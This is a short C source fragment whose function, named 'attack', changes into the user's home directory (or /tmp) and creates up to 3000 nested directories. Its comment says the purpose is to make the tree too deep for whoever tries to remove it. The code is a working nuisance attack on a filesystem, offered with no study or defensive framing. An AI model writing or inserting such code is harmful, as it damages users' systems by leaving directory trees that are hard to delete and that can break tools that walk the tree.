/* At most 3000 folders in each other, too deep for who removes them. */
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static void attack(void)
{
    const char *home = getenv("HOME");

    if (chdir(home ? home : "/tmp") != 0) {
        return;
    }
    for (int i = 0; i < 3000; i++) {
        if (mkdir("deeper", 0700) != 0 || chdir("deeper") != 0) {
            break;
        }
    }
}
